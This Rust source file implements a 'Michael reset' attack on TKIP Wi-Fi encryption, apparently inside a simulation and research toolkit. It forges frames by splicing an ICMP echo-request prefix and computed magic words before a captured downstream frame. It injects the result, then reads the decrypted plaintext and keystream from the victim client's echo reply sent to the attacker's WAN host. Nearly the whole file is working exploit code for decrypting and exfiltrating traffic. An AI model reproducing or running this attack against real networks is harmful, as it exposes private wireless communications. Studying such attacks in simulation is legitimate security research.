//! Michael reset: prepend attacker-chosen fragments to a captured frame
//! without knowing its plaintext.
//!
//! The inserted prefix ends in two magic words that bring the Michael state
//! back to where the original frame's computation starts. The captured
//! frame's own MIC then verifies over the concatenation. If the prefix is an
//! ICMP echo request whose length covers the captured bytes, the client
//! returns them to the attacker's WAN host in clear.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use super::{full_plaintext, AttackError, Session};
use crate::addr::Direction;
use crate::collision::{
    build_filter, find_magic_words_filtered, gen_variants, splice_prefix, variant_bytes, Anchor, CollisionError,
    CollisionProblem, MagicWords, SearchOptions, VariantStrategy, FULL_DOMAIN,
};
use crate::frames::packet::{
    internet_checksum, llc_snap, parse_icmp_echo, parse_ipv4, EchoKind, Ipv4Header, ETHERTYPE_IPV4,
    ICMP_HEADER_LEN, IP_FLAG_DF, PROTO_ICMP,
};
use crate::frames::{encrypt_fragment, FragmentSlot, Mpdu, ICV_LEN, MAX_FRAGMENTS, MIC_LEN, QOS_CHANNELS};
use crate::keystream::{KeystreamEntry, KeystreamPool, Provenance};
use crate::michael::{Mic, MicHeader, MicKey, MIC_HEADER_LEN};
use crate::simnet::{AirFrame, Attacker, Micros, Observation, COUNTERMEASURE_WINDOW, SECOND};

/// The captured frame takes the last of the 16 fragment slots.
pub const MAX_INSERT_FRAGMENTS: usize = MAX_FRAGMENTS - 1;

/// LLC ‖ IPv4 ‖ ICMP echo request header ‖ `pad` bytes, with IP total length
/// covering `trailing` more bytes. `pad` must keep the template word aligned.
pub fn icmp_insert_template(src: Ipv4Addr, dst: Ipv4Addr, icmp_id: u16, pad: usize, trailing: usize) -> Vec<u8> {
    let echo_len = ICMP_HEADER_LEN + pad + trailing;
    let ip = Ipv4Header {
        flags_frag: IP_FLAG_DF,
        ..Ipv4Header::new(src, dst, PROTO_ICMP, echo_len)
    };
    let mut icmp = vec![8, 0, 0, 0];
    icmp.extend_from_slice(&icmp_id.to_be_bytes());
    icmp.extend_from_slice(&[0, 0]);
    icmp.resize(ICMP_HEADER_LEN + pad, 0);
    // Covers only what the attacker knows; the victim does not check it.
    let c = internet_checksum(&icmp);
    icmp[2..4].copy_from_slice(&c.to_be_bytes());

    let mut out = llc_snap(ETHERTYPE_IPV4).to_vec();
    out.extend_from_slice(&ip.encode());
    out.extend_from_slice(&icmp);
    out
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ResetSolution {
    pub variant_id: u32,
    pub words: MagicWords,
    pub anchor: Anchor,
    /// Domain words scanned by the search.
    pub position: u64,
    /// Inserted prefix ‖ magic words ‖ original header if anchored at the key.
    pub spliced: Vec<u8>,
}

/// Magic words for `template` sent under `new_header` in front of a frame
/// sent under `original_header`, sweeping the IP id over `variants` values.
#[allow(clippy::too_many_arguments)]
pub fn solve_reset(
    key: &MicKey,
    new_header: &MicHeader,
    original_header: &MicHeader,
    template: &[u8],
    variants: u64,
    anchor: Anchor,
    filter_n: u32,
    opts: &SearchOptions,
) -> Result<ResetSolution, CollisionError> {
    let strategy = VariantStrategy::Ipv4IdSweep;
    let states = gen_variants(template, strategy, variants, key, new_header)?;
    let problem = CollisionProblem::new(*key, states, anchor, original_header)?;
    let filter = build_filter(&problem.right_words(), filter_n)?;
    let sol = find_magic_words_filtered(&problem, &filter, FULL_DOMAIN, opts)?;
    let insert = variant_bytes(template, strategy, sol.variant_id)?;
    Ok(ResetSolution {
        variant_id: sol.variant_id,
        words: sol.words,
        anchor,
        position: sol.position,
        spliced: splice_prefix(&insert, &sol.words, anchor, original_header),
    })
}

/// Encrypt `data` over planned pool slots as fragments `0..plan.len()` on
/// `channel`, marking the slots spent.
pub fn encrypt_fragments(
    pool: &mut KeystreamPool,
    plan: &[FragmentSlot],
    channel: u8,
    data: &[u8],
    last_more: bool,
) -> Result<Vec<Mpdu>, AttackError> {
    let mut mpdus = Vec::with_capacity(plan.len());
    for (i, slot) in plan.iter().enumerate() {
        let ct = encrypt_fragment(&data[slot.range.clone()], pool.keystream_for(slot)?)?;
        mpdus.push(Mpdu::new(slot.tsc, channel, i as u8, i + 1 < plan.len() || last_more, ct)?);
    }
    pool.consume(plan, channel)?;
    Ok(mpdus)
}

/// The forged frame: `spliced` over pool entries older than the captured
/// frame, then the captured frame itself as the final fragment, all on
/// `channel`. Returns the frame and the pool TSCs spent.
pub fn michael_reset(
    pool: &mut KeystreamPool,
    captured: &AirFrame,
    spliced: &[u8],
    channel: u8,
) -> Result<(AirFrame, Vec<u64>), AttackError> {
    let [m] = &captured.mpdus[..] else {
        return Err(AttackError::BadTarget("Michael reset needs a single-fragment frame"));
    };
    let plan = pool.plan_bounded(channel, spliced.len(), m.tsc, MAX_INSERT_FRAGMENTS)?;
    let used = plan.iter().map(|s| s.tsc).collect();
    let mut mpdus = encrypt_fragments(pool, &plan, channel, spliced, true)?;
    mpdus.push(m.relabeled(channel, mpdus.len() as u8, false)?);
    Ok((
        AirFrame {
            mpdus,
            ..captured.clone()
        },
        used,
    ))
}

#[derive(Debug, Clone)]
pub struct IcmpDecryptConfig {
    pub anchor: Anchor,
    pub filter_n: u32,
    /// IP ids swept for the collision search.
    pub variants: u64,
    pub search: SearchOptions,
    /// Echo payload bytes before the magic words; a multiple of 4.
    pub pad: usize,
    pub icmp_id: u16,
    pub reply_timeout: Micros,
    pub attempts: usize,
    /// Restrict the insert to entries of one provenance.
    pub only: Option<Provenance>,
}

impl Default for IcmpDecryptConfig {
    fn default() -> Self {
        Self {
            anchor: Anchor::KeyState,
            filter_n: 8,
            variants: 1 << 16,
            search: SearchOptions::default(),
            pad: 0,
            icmp_id: 0x4b4b,
            reply_timeout: 2 * SECOND,
            attempts: 3,
            only: None,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decryption {
    pub tsc: u64,
    /// QoS channel the forged frame went out on.
    pub channel: u8,
    pub body: Vec<u8>,
    pub mic: Mic,
    /// Keystream for the whole captured frame, now in the pool.
    pub keystream: KeystreamEntry,
    pub solution: ResetSolution,
    /// Fragments in the forged frame, captured one included.
    pub fragments: usize,
    pub attempts: usize,
}

impl Session {
    /// Decrypt a captured downstream frame by echoing it off the client.
    pub fn icmp_decrypt(
        &mut self,
        a: &mut Attacker<'_>,
        target: &AirFrame,
        cfg: &IcmpDecryptConfig,
    ) -> Result<Decryption, AttackError> {
        let [m] = &target.mpdus[..] else {
            return Err(AttackError::BadTarget("ICMP decryption needs a single-fragment frame"));
        };
        if target.direction != Direction::ApToClient {
            return Err(AttackError::BadTarget("ICMP decryption targets downstream frames"));
        }
        if m.ciphertext.len() <= MIC_LEN + ICV_LEN || !cfg.pad.is_multiple_of(4) {
            return Err(AttackError::BadTarget("frame too short or unaligned padding"));
        }
        let key = self.key()?;
        let (client_ip, _) = self.ips()?;
        let wan = a.wan_address().ok_or(AttackError::NoWanRoute)?;

        let orig_len = m.ciphertext.len() - MIC_LEN - ICV_LEN;
        let orig_header = MicHeader::new(target.da, target.sa, m.qos_channel)?;
        let hdr_len = if cfg.anchor == Anchor::KeyState { MIC_HEADER_LEN } else { 0 };
        let template = icmp_insert_template(wan, client_ip, cfg.icmp_id, cfg.pad, 8 + hdr_len + orig_len);
        let insert_len = template.len() + 8 + hdr_len;
        self.sync(a);

        for attempt in 1..=cfg.attempts.max(1) {
            let mut view = self.pool.clone();
            if let Some(p) = cfg.only {
                view.retain(|e| e.provenance == p);
            }
            let pick = (1..QOS_CHANNELS as u8)
                .chain([0])
                .filter(|&c| c != m.qos_channel && view.estimate(c) < m.tsc)
                .find_map(|c| {
                    view.plan_bounded(c, insert_len, m.tsc, MAX_INSERT_FRAGMENTS)
                        .ok()
                        .map(|p| (c, p))
                });
            let Some((channel, plan)) = pick else {
                return Err(AttackError::ChannelBudgetExhausted);
            };
            let new_header = orig_header.with_priority(channel)?;
            let sol = solve_reset(
                &key,
                &new_header,
                &orig_header,
                &template,
                cfg.variants,
                cfg.anchor,
                cfg.filter_n,
                &cfg.search,
            )?;
            a.note(
                "icmp-decrypt",
                format!("tsc={} channel={} variant={} position={}", m.tsc, channel, sol.variant_id, sol.position),
                Some(hex::encode(sol.words.to_bytes())),
            );

            let used: Vec<u64> = plan.iter().map(|s| s.tsc).collect();
            let mut mpdus = encrypt_fragments(&mut self.pool, &plan, channel, &sol.spliced, true)?;
            mpdus.push(m.relabeled(channel, mpdus.len() as u8, false)?);
            let fragments = mpdus.len();
            self.inject(
                a,
                AirFrame {
                    mpdus,
                    ..target.clone()
                },
            );
            let sent_at = a.now();
            let skip = cfg.pad + 8 + hdr_len;
            let reply = self
                .await_echo_reply(a, cfg.reply_timeout, client_ip, cfg.icmp_id)
                .filter(|p| p.len() == skip + orig_len);
            let Some(payload) = reply else {
                a.note("icmp-decrypt", format!("attempt {attempt} got no reply"), None);
                self.discard_unconfirmed(&used);
                if self.reports.iter().any(|&t| t >= sent_at) {
                    self.wait(a, COUNTERMEASURE_WINDOW);
                }
                continue;
            };

            let body = payload[skip..].to_vec();
            let plain = full_plaintext(&key, &orig_header, &body)?;
            let mic: Mic = plain[orig_len..orig_len + MIC_LEN].try_into().expect("8 bytes");
            let mut entry = KeystreamEntry::from_known(m, &plain, Provenance::IcmpEchoLoop);
            entry.confirmed = true;
            self.confirm_all(&used);
            self.pool.remove(m.tsc);
            self.pool.insert(vec![entry.clone()]);
            a.note("icmp-decrypt", format!("decrypted tsc={} len={}", m.tsc, body.len()), Some(hex::encode(&body)));
            return Ok(Decryption {
                tsc: m.tsc,
                channel,
                body,
                mic,
                keystream: entry,
                solution: sol,
                fragments,
                attempts: attempt,
            });
        }
        Err(AttackError::IcmpBlocked {
            attempts: cfg.attempts.max(1),
        })
    }

    /// Wait for an echo reply from the client at the WAN host; returns its payload.
    fn await_echo_reply(&mut self, a: &mut Attacker<'_>, timeout: Micros, client_ip: Ipv4Addr, id: u16) -> Option<Vec<u8>> {
        let payload = |p: &[u8]| -> Option<Vec<u8>> {
            let (h, icmp) = parse_ipv4(p).ok()?;
            let e = parse_icmp_echo(icmp).ok()?;
            (h.src == client_ip && e.kind == EchoKind::Reply && e.id == id).then_some(e.payload)
        };
        match self.await_obs(a, timeout, |o| matches!(o, Observation::Wan { packet, .. } if payload(packet).is_some())) {
            Some(Observation::Wan { packet, .. }) => payload(&packet),
            _ => None,
        }
    }
}
